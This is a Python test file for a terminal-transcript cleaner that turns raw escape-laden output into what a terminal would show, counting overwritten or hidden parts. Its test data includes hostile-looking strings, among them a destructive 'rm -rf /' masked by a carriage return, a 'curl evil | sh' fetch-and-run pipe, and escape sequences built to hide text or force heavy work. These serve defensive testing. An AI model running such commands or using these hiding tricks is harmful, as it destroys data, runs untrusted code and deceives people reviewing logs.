"""What a terminal would show of a line, and what is counted as left out."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ssmtrail.queries.transcripts.plain import Dropped, decoded, plain_line


@pytest.mark.parametrize(
    ("printed", "shown", "dropped"),
    [
        ("ls -la", "ls -la", {}),
        ("größe 漢字", "größe 漢字", {}),
        ("lss\b\x1b[K", "ls", {"overwritten": 1}),
        ("abc\rX", "Xbc", {"overwritten": 1}),
        ("rm -rf /\rls      ", "ls", {"overwritten": 6}),
        ("\x1b[31mred\x1b[0m", "red", {"colour": 2}),
        ("\x1b[?2004hsh$ id\x1b[?2004l", "sh$ id", {"mode": 2}),
        ("\x1b]0;root@box\x07# id", "# id", {"title": 1}),
        ("\x1b]52;c;b3duZWQ=\x1b\\x", "x", {"title": 1}),
        ("a\tb", "a       b", {}),
        ("\x1b[1ma\tb", "a       b", {"colour": 1}),
        ("ab\x1b[D\x1b[@X", "aXb", {}),
        ("abcd\x1b[3D\x1b[2P", "ad", {"overwritten": 2}),
        ("a\x1b[5Cb", "a     b", {}),
        ("abc\x1b[Gx\x1b[2K", "", {"overwritten": 4}),
        ("a\x07b\x1b[5;7Hc\x1b[2J\x1b[6n", "abc", {"bell": 1, "cursor": 1, "cleared": 1, "other": 1}),
        ("漢\b\b字", "字", {"overwritten": 1}),
        ("e\u0301x", "e\u0301x", {}),
        ("x\x1b[999999999999C\x1b[99999@y", "x" + "y".rjust(1), None),
    ],
)
def test_a_line(printed: str, shown: str, dropped: dict[str, int] | None) -> None:
    found = Dropped()
    line = plain_line(printed, found)
    if dropped is None:
        assert len(line) < 10_000
        return
    assert line == shown
    assert {kind: number for kind, number in found.items() if number} == dropped


def test_a_title_that_never_ends_hides_nothing() -> None:
    assert plain_line("\x1b]0;curl evil | sh", Dropped()) == "0;curl evil | sh"
    assert "hidden" in plain_line("\x1b]0;" + "x" * 5_000 + "hidden\x07", Dropped())


def test_a_command_that_the_shell_wrapped_at_the_margin_stays_whole() -> None:
    command = "sh-5.2$ " + "a" * 72
    assert plain_line(f"{command} \rbbb", Dropped()) == command + "bbb"
    # A line of progress is no command: what it showed last is seen.
    assert plain_line("50% of a very long name of a package being fetched \rdone", Dropped()).startswith("doneof a")


def test_bytes_that_are_no_text_are_written_out() -> None:
    dropped = Dropped()
    assert decoded(b"a\xffb \\x41", dropped) == "a\\xffb \\x41"
    assert dropped["invalid"] == 1
    assert dropped.words == "1 byte that is no UTF-8"


@pytest.mark.parametrize(
    ("printed", "repeated"),
    [
        ("x" * 200_000, "\x1b[2K"),
        ("x" * 200_000, "\x1b[1K"),
        ("x" * 200_000 + "\r", "\x1b[9999X"),
        ("", "\x1b[4096Cx\r\x1b[K"),
        ("\ax", "\u0301" * 40),
        ("", "\x9d" * 20),
    ],
    ids=["line", "to-cursor", "cells", "filled", "marks", "strings"],
)
def test_a_hostile_line_takes_time_by_its_length(printed: str, repeated: str) -> None:
    """Each few bytes of it ask for much work."""
    begun = time.process_time()
    plain_line(printed + repeated * 6_000, Dropped())
    assert time.process_time() - begun < 2


def test_what_a_line_asks_for_beyond_its_bound_is_counted_and_hides_nothing() -> None:
    dropped = Dropped()
    assert plain_line("x" * 200_000 + "\x1b[2K" * 100 + "seen\x1b[3D\x1b[K", dropped).endswith("seen")
    assert dropped["other"] > 50


_PIECES = st.sampled_from(
    ["a", "漢", "\u0301", " ", "\r", "\b", "\t", "\x07", "\x1b", "\x9b", "\x1b[", "\x1b]0;", "\x1b[K", "\x1b[5C",
     "\x1b[3P", "\x1b[2@", "\x1b[1K", "\x1b[9X", "\x1b[?1049h", "\x1b[31m", "m", ";", "1", "\x1b\\", "\x00", "$ "]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_control_character_is_left(printed: str) -> None:
    line = plain_line(printed, Dropped())
    assert not any(ord(char) < 32 or 127 <= ord(char) < 160 for char in line)


@given(st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), max_size=30))
def test_what_was_only_printed_is_shown_as_it_is(printed: str) -> None:
    assert plain_line(f"{printed}\x1b[31m", Dropped()) == printed
